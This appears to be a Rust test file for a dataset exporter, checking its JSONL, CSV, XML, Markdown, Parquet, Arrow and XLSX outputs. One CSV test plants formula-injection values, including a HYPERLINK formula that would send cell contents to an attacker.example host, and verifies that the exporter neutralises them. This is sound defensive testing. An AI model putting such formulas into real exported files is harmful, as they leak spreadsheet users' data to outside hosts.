use std::io::Read;

use super::*;
use crate::dataset_exporter::rows::sample;

fn export(
    format: ExportFormat,
    rows: Vec<DatasetRow>,
) -> (tempfile::TempDir, std::path::PathBuf, u64) {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join(format!("out.{}", format.extension()));
    let count = write_rows(
        format,
        rows.into_iter().map(Ok),
        &out,
        "test <set>",
        dir.path(),
    )
    .expect("writes");
    (dir, out, count)
}

#[test]
fn jsonl_and_csv_read_back_one_row_per_execution() {
    let rows: Vec<DatasetRow> = (0..5).map(sample).collect();
    let (_dir, out, count) = export(ExportFormat::Jsonl, rows.clone());
    assert_eq!(count, 5);
    let text = std::fs::read_to_string(&out).expect("read");
    let back: Vec<DatasetRow> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("row"))
        .collect();
    assert_eq!(back, rows);

    let (_dir, out, _) = export(ExportFormat::Csv, rows);
    let mut reader = csv::Reader::from_path(&out).expect("csv");
    assert_eq!(reader.headers().expect("header").get(8), Some("text"));
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), 5);
    assert!(records[0][8].contains("\"tırnak\", virgül\nikinci"));
    let summary: serde_json::Value = serde_json::from_str(&records[0][7]).expect("json cell");
    assert_eq!(summary["email"], 1);
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote() {
    let mut rows: Vec<DatasetRow> = (0..6).map(sample).collect();
    let planted = [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "a = b, as written",
    ];
    for (row, text) in rows.iter_mut().zip(planted) {
        row.text = text.to_string();
        row.filename = text.to_string();
    }
    let (_dir, out, _) = export(ExportFormat::Csv, rows.clone());
    let mut reader = csv::Reader::from_path(&out).expect("csv");
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    for (record, text) in records.iter().zip(planted) {
        let expected = if text.starts_with(['=', '+', '-', '@', '\t']) {
            format!("'{text}")
        } else {
            text.to_string()
        };
        assert_eq!(&record[8], expected.as_str());
        assert_eq!(&record[2], expected.as_str());
    }
    // The JSON Lines export keeps the values as they were.
    let (_dir, out, _) = export(ExportFormat::Jsonl, rows);
    let text = std::fs::read_to_string(&out).expect("read");
    assert!(text.contains("\"=HYPERLINK("), "{text}");
}

#[test]
fn the_jsonl_export_is_the_canonical_file_byte_for_byte() {
    // Exports of JSON Lines are copies of the canonical rows; the writer must agree with them.
    let dir = tempfile::tempdir().expect("temp dir");
    let canonical = dir.path().join("rows.jsonl");
    let mut bytes = Vec::new();
    for n in 0..4 {
        let mut row = sample(n);
        row.fields = serde_json::json!({"z": 1, "a": {"y": [1, 2], "b": null}, "ü": "ş"});
        crate::dataset_exporter::rows::write_line(&mut bytes, &row).expect("line");
    }
    std::fs::write(&canonical, &bytes).expect("canonical");
    let out = dir.path().join("out.jsonl");
    write_export(ExportFormat::Jsonl, &canonical, &out, "set", dir.path()).expect("export");
    assert_eq!(std::fs::read(&out).expect("read"), bytes);
}

#[test]
fn xml_is_well_formed_and_escaped() {
    let mut row = sample(0);
    row.text.push_str("\u{0}\u{7} control characters");
    let (_dir, out, _) = export(ExportFormat::Xml, vec![row, sample(1)]);
    let text = std::fs::read_to_string(&out).expect("read");
    assert!(text.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
    let mut reader = quick_xml::Reader::from_str(&text);
    let mut rows = 0;
    loop {
        match reader.read_event().expect("well-formed") {
            quick_xml::events::Event::Start(e) if e.name().as_ref() == b"row" => rows += 1,
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(rows, 2);
    assert!(text.contains("&lt;ok&gt; &amp;"));
}

#[test]
fn markdown_has_a_heading_per_document_and_tables() {
    let (_dir, out, _) = export(ExportFormat::Markdown, vec![sample(0), sample(1)]);
    let text = std::fs::read_to_string(&out).expect("read");
    assert_eq!(text.matches("\n## ").count(), 2, "{text}");
    assert!(text.contains("| Ad | Tutar |"));
    assert!(text.contains("10\\|5"), "pipes in cells are escaped");
}

#[test]
fn parquet_has_typed_columns_and_every_row() {
    use parquet::file::reader::{FileReader, SerializedFileReader};
    let rows: Vec<DatasetRow> = (0..5000).map(sample).collect();
    let (_dir, out, count) = export(ExportFormat::Parquet, rows);
    assert_eq!(count, 5000);
    let reader =
        SerializedFileReader::new(std::fs::File::open(&out).expect("open")).expect("parquet");
    let metadata = reader.metadata();
    assert_eq!(metadata.file_metadata().num_rows(), 5000);
    let schema = metadata.file_metadata().schema_descr();
    assert_eq!(schema.column(0).name(), "execution_id");
    assert_eq!(
        schema.column(0).physical_type(),
        parquet::basic::Type::INT64
    );
    assert_eq!(schema.column(8).name(), "text");
}

#[test]
fn the_huggingface_zip_holds_a_stream_shard_and_both_json_files() {
    let rows: Vec<DatasetRow> = (0..10).map(sample).collect();
    let (_dir, out, count) = export(ExportFormat::Arrow, rows);
    assert_eq!(count, 10);
    let mut archive = zip::ZipArchive::new(std::fs::File::open(&out).expect("open")).expect("zip");
    let mut state = String::new();
    archive
        .by_name("state.json")
        .expect("state.json")
        .read_to_string(&mut state)
        .expect("read");
    let state: serde_json::Value = serde_json::from_str(&state).expect("json");
    for key in [
        "_data_files",
        "_fingerprint",
        "_format_columns",
        "_format_kwargs",
        "_format_type",
        "_output_all_columns",
        "_split",
    ] {
        assert!(state.get(key).is_some(), "state.json lacks {key}");
    }
    archive
        .by_name("dataset_info.json")
        .expect("dataset_info.json");
    let mut shard = Vec::new();
    archive
        .by_name("data-00000-of-00001.arrow")
        .expect("shard")
        .read_to_end(&mut shard)
        .expect("read");
    let reader = arrow_ipc::reader::StreamReader::try_new(std::io::Cursor::new(shard), None)
        .expect("an IPC stream, not an IPC file");
    let schema = reader.schema();
    assert_eq!(
        schema.field_with_name("text").expect("text").data_type(),
        &arrow_schema::DataType::Utf8
    );
    let total: usize = reader.map(|b| b.expect("batch").num_rows()).sum();
    assert_eq!(total, 10);
}

#[test]
fn xlsx_has_a_header_and_cuts_long_cells_with_a_marker() {
    use calamine::{open_workbook, Reader, Xlsx};
    let mut long = sample(0);
    long.text = "ğ".repeat(40_000);
    let (_dir, out, _) = export(ExportFormat::Xlsx, vec![long, sample(1)]);
    let mut workbook: Xlsx<_> = open_workbook(&out).expect("xlsx opens");
    let range = workbook.worksheet_range("dataset").expect("sheet");
    assert_eq!(range.height(), 3);
    assert_eq!(
        range.get((0, 8)).map(|c| c.to_string()),
        Some("text".to_string())
    );
    let cell = range.get((1, 8)).expect("text cell").to_string();
    assert!(cell.ends_with(xlsx::TRUNCATION_MARKER));
    assert!(cell.encode_utf16().count() <= xlsx::CELL_LIMIT);
    assert_eq!(
        range.get((2, 0)).map(|c| c.to_string()),
        Some("2".to_string())
    );
}

#[test]
fn formats_parse_with_aliases_and_refuse_others() {
    assert_eq!(ExportFormat::parse("hf"), Some(ExportFormat::Arrow));
    assert_eq!(ExportFormat::parse("PARQUET"), Some(ExportFormat::Parquet));
    assert_eq!(ExportFormat::parse("pdf"), None);
}
